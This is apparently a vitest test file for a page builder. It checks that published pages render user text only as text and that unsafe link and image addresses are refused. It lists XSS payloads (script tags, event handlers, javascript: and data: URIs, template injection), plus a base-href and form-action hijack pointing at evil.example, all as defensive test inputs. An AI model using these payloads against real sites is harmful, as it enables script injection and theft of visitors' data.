import { Window } from 'happy-dom';
import { expect, test } from 'vitest';
import { newPage, newProject, pathIn, smallPage } from '../../../../test/page-kit.ts';
import { signUp } from '../../../../test/people.ts';
import { makeRunApp } from '../../../../test/run-kit.ts';

/** From the OWASP filter evasion list, with what ends an attribute, a style sheet, a title and a comment. */
const vectors = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '--><iframe srcdoc="<script>alert(1)</script>">',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '**<b onclick=alert(1)>x</b>**',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example><input name=email>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028<scr\0ipt>alert(1)</scr\0ipt>',
];

const made = '2026-11-16T10:00:00.000Z';
const pageWith = (text: string) =>
  smallPage(text, {
    title: text.slice(0, 120),
    description: text,
    sections: [
      { id: 'section-1-a', kind: 'hero', createdAt: made, data: { heading: text, kicker: text, lead: text } },
      {
        id: 'section-2-b',
        kind: 'waitlist-form',
        createdAt: made,
        data: { heading: text, lead: text, button: text.slice(0, 40), note: text },
      },
      {
        id: 'section-3-c',
        kind: 'rich-text',
        createdAt: made,
        data: { heading: text, aside: text, body: text },
      },
      { id: 'section-4-d', kind: 'faq', createdAt: made, data: { heading: text } },
    ],
  });

test('no text of a published page becomes anything but text', async () => {
  const kit = await makeRunApp({});
  const ada = await signUp(kit, 'ada@example.com');
  const project = await newProject(ada);
  for (const vector of vectors) {
    const id = await newPage(ada, project, { name: vector.replaceAll('\0', ''), document: pageWith(vector) });
    const { body } = await ada.request('PUT', `/api/pages/${id}/publication`, {});
    const path = pathIn(Reflect.get(Object(body), 'url'));
    const { text } = await kit.client().request('GET', path);
    const { document } = new Window({ settings: { disableJavaScriptEvaluation: true } });
    document.write(text);
    expect(
      document.querySelectorAll('script, iframe, object, embed, base, svg, link:not([rel=icon])'),
      vector,
    ).toHaveLength(0);
    expect(
      [...document.querySelectorAll('form')].map((form) => form.getAttribute('action')),
      vector,
    ).toEqual([`${path}/join?page=a`]);
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        expect(name, vector).not.toMatch(/^on|^style$|^srcdoc$/i);
        expect(value, vector).not.toMatch(/^\s*(?:javascript|data:[^,]|vbscript)/i);
      }
    expect(document.querySelectorAll('meta[http-equiv]').length, vector).toBe(1);
  }
  await kit.close();
});

test('links and pictures with an address that runs something are refused, not cleaned up', async () => {
  const kit = await makeRunApp({});
  const ada = await signUp(kit, 'ada@example.com');
  const project = await newProject(ada);
  const send = (data: object) =>
    ada.request('POST', `/api/projects/${project}/pages`, {
      name: 'x',
      document: smallPage('x', { sections: [{ id: 'section-1-a', kind: 'hero', createdAt: made, data }] }),
    });
  for (const href of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
  ])
    expect((await send({ heading: 'x', action: { label: 'x', href } })).status, href).toBe(400);
  for (const src of [
    'javascript:alert(1)',
    'data:image/svg+xml;base64,PHN2Zy8+',
    'https://evil.example/pixel.png',
    '/images/x.svg',
    '/api/me',
  ])
    expect((await send({ heading: 'x', image: { src, alt: '', width: 1, height: 1 } })).status, src).toBe(
      400,
    );
  await kit.close();
});
